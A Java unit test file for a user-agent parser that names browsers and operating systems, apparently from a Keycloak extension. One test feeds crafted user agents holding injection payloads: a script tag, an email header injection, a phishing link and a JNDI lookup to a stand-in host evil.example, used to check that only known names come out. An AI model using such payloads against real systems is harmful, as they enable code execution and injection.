package io.einlass.keycloak.core.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Random;
import java.util.Set;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.NullAndEmptySource;
import org.junit.jupiter.params.provider.ValueSource;

class BrowserDescriptionTest {

    private static final Set<String> BROWSERS = Set.of("Edge", "Opera", "Samsung Internet", "Firefox", "Chrome", "Safari", "?");
    private static final Set<String> SYSTEMS = Set.of("iPhone", "iPad", "Android", "Windows", "ChromeOS", "macOS", "Linux", "?");

    @ParameterizedTest(name = "{1} on {2}")
    @CsvSource(delimiter = '|', textBlock = """
            Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0 | Firefox | Windows
            Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1 | Safari | iPhone
            Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36 | Chrome | Android
            Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.87 | Edge | Windows
            Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36 | Samsung Internet | Android
            Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15 | Safari | macOS
            Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 | Chrome | macOS
            Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0 | Firefox | Linux
            Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 | Chrome | ChromeOS
            Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1 | Safari | iPad
            Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1 | Chrome | iPhone
            Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/128.0 Mobile/15E148 Safari/605.1.15 | Firefox | iPhone
            Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36 EdgA/126.0.2592.80 | Edge | Android
            Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 OPR/111.0.0.0 | Opera | Windows
            """)
    void recognisesCommonBrowsers(String userAgent, String browser, String os) {
        BrowserDescription description = BrowserDescription.parse(userAgent);

        assertThat(description.browser()).isEqualTo(browser);
        assertThat(description.os()).isEqualTo(os);
        assertThat(description.isKnown()).isTrue();
    }

    @Test
    void matchingIgnoresCase() {
        assertThat(BrowserDescription.parse("MOZILLA/5.0 (WINDOWS NT 10.0) FIREFOX/128.0"))
                .isEqualTo(new BrowserDescription("Firefox", "Windows"));
    }

    @ParameterizedTest
    @NullAndEmptySource
    @ValueSource(strings = {"   ", "\t", "garbage", "curl/8.5.0", "python-requests/2.32", "Mozilla/5.0", "-", "null"})
    void unknownOrMissingUserAgentsAreUnknown(String userAgent) {
        BrowserDescription description = BrowserDescription.parse(userAgent);

        assertThat(description.browser()).isEqualTo(BrowserDescription.UNKNOWN).isEqualTo("?");
        assertThat(description.os()).isEqualTo("?");
        assertThat(description.isKnown()).isFalse();
    }

    @Test
    void knownWhenEitherBrowserOrSystemIsRecognised() {
        assertThat(BrowserDescription.parse("SomeBot/1.0 (Windows NT 10.0)").isKnown()).isTrue();
        assertThat(BrowserDescription.parse("Firefox/128.0").isKnown()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert(1)</script> Firefox/128.0 (Windows NT 10.0)",
            "Mozilla/5.0 (Windows NT 10.0) Firefox/128.0\r\nBcc: victim@example.com",
            "Chrome/1.0 <a href=\"https://evil.example\">Click here to confirm</a>",
            "Mozilla/5.0 (iPhone; ${jndi:ldap://evil.example/a}) Version/17 Safari/604.1",
            "Edg/1.0 {0} {1} '' \" <b>bold</b> android",
            "Samsung Internet on Windows, approved by your bank: call +1 555 0100",
            "\u202e\u0000Opera/9 linux \ud83d\ude00",
    })
    void craftedUserAgentsYieldOnlyKnownNames(String userAgent) {
        BrowserDescription description = BrowserDescription.parse(userAgent);

        assertThat(description.browser()).isIn(BROWSERS);
        assertThat(description.os()).isIn(SYSTEMS);
    }

    @Test
    void randomUserAgentsYieldOnlyKnownNames() {
        Random random = new Random(20260722L);
        List<String> fragments = List.of("firefox/", "chrome/", "edg/", "opr/", "safari/", "version/", "samsungbrowser/",
                "windows", "android", "iphone", "ipad", "cros", "mac os x", "linux", "<", ">", "\"", "'", "\n", "%0d%0a",
                "{0}", "${x}", " ", "\u0000", "\u202e", "\ud83d\ude00", "evil", "Mozilla/5.0");
        for (int i = 0; i < 5_000; i++) {
            StringBuilder ua = new StringBuilder();
            int parts = random.nextInt(80);
            for (int p = 0; p < parts; p++) {
                if (random.nextBoolean()) {
                    ua.append(fragments.get(random.nextInt(fragments.size())));
                } else {
                    ua.append((char) random.nextInt(0x3000));
                }
            }
            BrowserDescription description = BrowserDescription.parse(ua.toString());
            assertThat(description.browser()).as("browser of %s", ua).isIn(BROWSERS);
            assertThat(description.os()).as("os of %s", ua).isIn(SYSTEMS);
        }
    }
}
